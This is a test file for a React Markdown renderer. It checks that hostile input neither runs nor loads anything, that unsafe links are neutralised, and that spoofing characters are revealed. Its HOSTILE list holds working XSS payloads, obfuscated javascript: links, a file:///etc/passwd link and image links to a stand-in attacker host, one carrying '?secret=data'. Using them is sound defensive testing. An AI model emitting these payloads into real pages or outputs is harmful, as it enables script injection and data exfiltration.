import { render, screen } from "@testing-library/react";
import userEvent from "@testing-library/user-event";
import { describe, expect, it, vi } from "vitest";
import { LabelsProvider } from "../../labels/labels-context.tsx";
import { ImagesProvider } from "./images-context.tsx";
import { Markdown } from "./markdown.tsx";

/** Documents that try to run, load or disguise something. */
const HOSTILE: readonly string[] = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
  "<img src=x onerror=alert(1)>",
  "<img src=https://evil.example/pixel.png>",
  "text <img src='https://evil.example/a.png'> text",
  "<svg onload=alert(1)><circle /></svg>",
  "<svg><image href='https://evil.example/a.svg' /></svg>",
  "<iframe src=https://evil.example></iframe>",
  "<object data=https://evil.example></object>",
  "<embed src=https://evil.example>",
  "<link rel=stylesheet href=https://evil.example/a.css>",
  "<style>@import 'https://evil.example/a.css'; body { background: url(https://evil.example/b.png) }</style>",
  "<base href=https://evil.example>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<form action=https://evil.example><input name=password autofocus onfocus=alert(1)></form>",
  "<video poster=https://evil.example/p.png src=https://evil.example/v.mp4 autoplay></video>",
  "<audio src=https://evil.example/a.mp3 autoplay></audio>",
  "<picture><source srcset='https://evil.example/a.png 1x'><img></picture>",
  '<a href="javascript:alert(1)" onclick=alert(1)>x</a>',
  "<details open ontoggle=alert(1)>x</details>",
  "<div style='background:url(https://evil.example/a.png)'>x</div>",
  "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>",
  "<!-- <img src=x onerror=alert(1)> -->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<?xml <img src=x onerror=alert(1)> ?>",
  "![a](https://evil.example/p.png)",
  '![a](https://evil.example/p.png?secret=data "title")',
  "![a][ref]\n\n[ref]: https://evil.example/p.png",
  "[![a](https://evil.example/p.png)](https://evil.example)",
  "![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  "![a](data:image/png;base64,AAAA)",
  "![a](//evil.example/p.png)",
  "![a](/local.png)",
  "![](javascript:alert(1))",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](java&#x09;script:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](<java\tscript:alert(1)>)",
  "[x](vbscript:msgbox(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](file:///etc/passwd)",
  "[x](blob:https://evil.example/1)",
  "[x](//evil.example)",
  "<javascript:alert(1)>",
  "<data:text/html,<script>>",
  "[x][r]\n\n[r]: javascript:alert(1)",
  "# <img src=x onerror=alert(1)>",
  "| <img src=x onerror=alert(1)> | ![a](https://evil.example/p.png) |\n|---|---|\n| <script>x</script> | [x](javascript:alert(1)) |",
  "- [ ] <img src=x onerror=alert(1)>\n- ![a](https://evil.example/p.png)",
  "> <script>alert(1)</script>",
  "```html\n<img src=x onerror=alert(1)>\n```",
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  "`<img src=x onerror=alert(1)>`",
  "x[^1]\n\n[^1]: <img src=x onerror=alert(1)> ![a](https://evil.example/p.png)",
  "**<script>alert(1)</script>**",
  "~~![a](https://evil.example/p.png)~~",
];

const LOADING =
  "img, script, iframe, object, embed, link, style, base, meta, form, input, video, audio, source, picture, image, svg:not([data-part=icon])";
const SAFE_HREF = /^(https?:|mailto:|#|\/(?![/\\]))/;

function expectHarmless(container: HTMLElement): void {
  expect([...container.querySelectorAll(LOADING)].map((element) => element.outerHTML)).toEqual([]);
  for (const element of container.querySelectorAll("*")) {
    for (const { name, value } of element.attributes) {
      expect(name, element.outerHTML).not.toMatch(
        /^(on|style$|src|srcset$|poster$|ping$|background$|formaction$|xlink)/,
      );
      if (name === "href") expect(value).toMatch(SAFE_HREF);
    }
    if (element instanceof HTMLAnchorElement && element.target === "_blank") {
      expect(element.rel).toBe("noopener noreferrer nofollow ugc");
    }
  }
}

describe("V08 X19 X21: hostile markdown neither runs nor loads anything", () => {
  it.each(HOSTILE)("%j", (text) => {
    const { container } = render(<Markdown text={text} />);
    expectHarmless(container);
  });

  it("X21 nor does any prefix of it while it streams", () => {
    const { container, rerender } = render(<Markdown text="" streaming />);
    for (const text of HOSTILE) {
      for (let end = 1; end <= text.length; end += 5) {
        rerender(<Markdown text={text.slice(0, end)} streaming />);
        expectHarmless(container);
      }
    }
  }, 60_000);
});

it("V08 X20 an unsafe link is text that says why, a safe one opens apart and shows where a disguised one leads", () => {
  render(
    <Markdown text="[bad](javascript:alert(1)) [good](https://a.example) [https://bank.example](https://evil.example) [page](#top)" />,
  );
  const bad = screen.getByText("bad");
  expect(bad).toHaveAttribute("data-part", "unsafe-link");
  expect(bad).toHaveAttribute("title", expect.stringContaining("not safe"));
  expect(screen.getByRole("link", { name: "good" })).toHaveAttribute("target", "_blank");
  screen.getByText("(evil.example)");
  expect(screen.getByRole("link", { name: "page" })).not.toHaveAttribute("target");
});

it("X21 an image is a placeholder with its text and its host", () => {
  render(<Markdown text="![a chart](https://cdn.example/p.png)" />);
  screen.getByText("a chart");
  screen.getByText("Image from cdn.example not loaded");
});

it("V08 code is copied as it was written", async () => {
  const user = userEvent.setup();
  const writeText = vi.spyOn(navigator.clipboard, "writeText");
  render(<Markdown text={"```ts\nconst a = 1;\n\nconst b = 2;\n```"} />);
  await user.click(screen.getByRole("button", { name: "Copy" }));
  expect(writeText).toHaveBeenCalledWith("const a = 1;\n\nconst b = 2;");
  await screen.findByRole("button", { name: "Copied" });
});

it("V08 finished blocks keep their elements, untouched, while the last one grows", async () => {
  const { container, rerender } = render(<Markdown text={"# Title\n\nfirst\n\nsec"} streaming />);
  const finished = [...container.querySelectorAll("h3, p")].slice(0, 2);
  const touched: Node[] = [];
  const observer = new MutationObserver((records) => touched.push(...records.map(({ target }) => target)));
  observer.observe(container, { childList: true, characterData: true, attributes: true, subtree: true });

  rerender(<Markdown text={"# Title\n\nfirst\n\nsecond and more\n\nthird"} streaming />);
  rerender(<Markdown text={"# Title\n\nfirst\n\nsecond and more\n\nthird grows"} streaming />);
  await screen.findByText("third grows");
  observer.disconnect();
  expect([...container.querySelectorAll("h3, p")].slice(0, 2)).toEqual(finished);
  expect(touched.length).toBeGreaterThan(0);
  for (const element of finished) expect(touched.some((node) => element.contains(node))).toBe(false);
});

it("V08 no prefix of an answer shows a table's pipes, or as a heading what a list follows", () => {
  const table = "| order | total |\n|:--|--:|\n| 1042 | 59.90 |\n| 1057 | 12.00 |";
  const text = `Three are open:\n- two shipped\n- one late\n\n${table}\n\n> ${table.replaceAll("\n", "\n> ")}\n\nThat is all.`;
  const { container, rerender } = render(<Markdown text="" streaming />);
  for (let end = 1; end <= text.length; end += 1) {
    rerender(<Markdown text={text.slice(0, end)} streaming />);
    expect(container.textContent, text.slice(0, end)).not.toMatch(/[|]|--/);
    expect(container.querySelector("h3, h4, h5, h6"), text.slice(0, end)).toBeNull();
  }
  expect(container.querySelectorAll("td")).toHaveLength(8);
});

it("V08 what ends in the middle of a table is shown as it was written", () => {
  const { container, rerender } = render(<Markdown text="| order | total |" streaming />);
  expect(container.textContent).toBe("");
  rerender(<Markdown text="| order | total |" />);
  expect(container.textContent).toBe("| order | total |");
});

it.each([
  ["deep quotes", `${">".repeat(5000)} x`],
  ["deep lists", `${"- ".repeat(3000)}x`],
  ["brackets", "[".repeat(20_000)],
  ["image brackets", "![".repeat(10_000)],
  ["stars", `${"*".repeat(50_000)}a`],
  ["a block beyond the limit", "word ".repeat(60_000)],
])("X26 %s are shown as text", (_name, text) => {
  const { container } = render(<Markdown text={text} />);
  expect(container.querySelector("[data-part=preformatted]")?.textContent).toBe(text);
});

it("X25 references to characters are read without asking the page, and stand for themselves in code", () => {
  const { container } = render(
    <Markdown
      text={
        "a &amp; b &lt;i&gt; &mdash; &unheard; &constructor; &#65; `&amp;`\n\n```\n&lt;\n```\n\n[x](https://a.example/?b&amp;c 'say &quot;x&quot;')"
      }
    />,
  );
  expect(container.querySelector("p")?.textContent).toBe("a & b <i> — &unheard; &constructor; A &amp;");
  expect(container.querySelector("pre")?.textContent).toBe("&lt;");
  expect(screen.getByRole("link", { name: "x" })).toHaveAttribute("href", "https://a.example/?b&c");
});

it("V22 footnotes are named in the reader's language, and so is the way back", () => {
  const labels = { footnotes: "Fußnoten", footnoteBack: (nth: number) => `Zurück zu Verweis ${nth}` };
  render(
    <LabelsProvider labels={labels}>
      <Markdown text={"One[^1], two[^2].\n\n[^1]: first\n[^2]: second"} />
    </LabelsProvider>,
  );
  screen.getByRole("heading", { name: "Fußnoten" });
  screen.getByRole("link", { name: "Zurück zu Verweis 1" });
  screen.getByRole("link", { name: "Zurück zu Verweis 2" });
});

it("X24 X20 a link holds no other, and shows every letter of what it says", () => {
  const { container } = render(<Markdown text={"[see https://bank.example **\u202eknab**](https://evil.example)"} />);
  expect(container.querySelectorAll("a")).toHaveLength(1);
  expect(screen.getByRole("link")).toHaveTextContent("see https://bank.example [U+202E]knab");
  screen.getByText("(evil.example)");
});

it("X24 code and its name show what they hide, and are copied as they are", async () => {
  const user = userEvent.setup();
  const writeText = vi.spyOn(navigator.clipboard, "writeText");
  const code = 'if (level != "user\u202e") {';
  const { container } = render(<Markdown text={`\`a\u2066b\`\n\n\`\`\`js\n${code}\n\`\`\``} />);
  expect(container.querySelector("p code")).toHaveTextContent("a[U+2066]b");
  expect(container.querySelector("pre")).toHaveTextContent('if (level != "user[U+202E]") {');
  await user.click(screen.getByRole("button", { name: "Copy" }));
  expect(writeText).toHaveBeenLastCalledWith(code);
});

it("X21 X22 an allowed image is loaded once its block is complete, and nothing is told to its server", () => {
  const images = { allow: ["https://cdn.example/charts/"] };
  const show = (text: string, streaming: boolean) => (
    <ImagesProvider images={images}>
      <Markdown text={text} streaming={streaming} />
    </ImagesProvider>
  );
  const { container, rerender } = render(show("![a chart](https://cdn.example/charts/a.png)", true));
  expect(container.querySelector("img")).toBeNull();
  rerender(show("![a chart](https://cdn.example/charts/a.png)\n\nIt shows", true));
  const image = screen.getByRole("img", { name: "a chart" });
  expect(image).toHaveAttribute("src", "https://cdn.example/charts/a.png");
  expect(image).toHaveAttribute("referrerpolicy", "no-referrer");
  rerender(show("![other](https://cdn.example/other/a.png)", false));
  expect(container.querySelector("img")).toBeNull();
});
